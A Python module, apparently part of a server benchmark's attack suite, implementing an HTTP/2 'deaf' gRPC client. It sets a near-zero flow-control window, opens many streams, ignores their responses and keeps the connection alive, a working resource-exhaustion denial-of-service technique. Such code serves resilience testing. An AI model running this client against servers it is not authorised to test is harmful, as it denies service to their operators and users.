"""An attacker's gRPC connection: hand-made HTTP/2 frames, and windows that stay closed."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading

from bench.attacks.http2_scripts import PREFACE
from bench.attacks.target import connect
from bench.performance.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    encode_frame,
    encode_message,
)

_INITIAL_WINDOW_SIZE = 4
_SETTING = struct.Struct(">HI")
_HEADER = struct.Struct(">HBBBI")
_READ_SIZE = 1 << 16
_GOAWAY = 7


class DeafConnection:
    """Makes calls and takes none of their answers, because each stream's window is zero.

    A thread reads the server's frames, so that the attacker knows how many streams are open.
    """

    def __init__(self, address: str) -> None:
        """`address` is HOST:PORT. Raises OSError."""
        self._socket = connect(address)
        self._socket.sendall(PREFACE + encode_frame(SETTINGS, 0, 0, _SETTING.pack(_INITIAL_WINDOW_SIZE, 0)))
        self._next = 1
        self.open: set[int] = set()
        self.is_over = False
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def close(self) -> None:
        """End the connection and its thread."""
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._reader.join()
        self._socket.close()

    def call(self, headers: bytes, message: bytes) -> None:
        """Make a call. Raises OSError."""
        stream, self._next = self._next, self._next + 2
        self.open.add(stream)
        self._socket.sendall(
            encode_frame(HEADERS, END_HEADERS, stream, headers)
            + encode_frame(DATA, END_STREAM, stream, encode_message(message))
        )

    def fill(self, headers: bytes, count: int) -> None:
        """Make calls without a request until `count` are open."""
        try:
            for _ in range(count - len(self.open)):
                self.call(headers, b"")
        except OSError:
            self.is_over = True

    def _read(self) -> None:
        buffer = b""
        try:
            while data := self._socket.recv(_READ_SIZE):
                buffer = self._take(buffer + data)
        except OSError:
            pass
        finally:
            self.is_over = True

    def _take(self, data: bytes) -> bytes:
        start = 0
        while len(data) - start >= _HEADER.size:
            high, low, kind, flags, stream = _HEADER.unpack_from(data, start)
            end = start + _HEADER.size + (high << 8 | low)
            if end > len(data):
                break
            payload, start = data[start + _HEADER.size : end], end
            if kind == RESET or (flags & END_STREAM and kind in (HEADERS, DATA)):
                self.open.discard(stream)
            elif kind == PING and not flags & ACK:
                self._socket.sendall(encode_frame(PING, ACK, 0, payload))
            elif kind == SETTINGS and not flags & ACK:
                self._socket.sendall(encode_frame(SETTINGS, ACK, 0, b""))
            elif kind == _GOAWAY:
                self.is_over = True
        return data[start:]
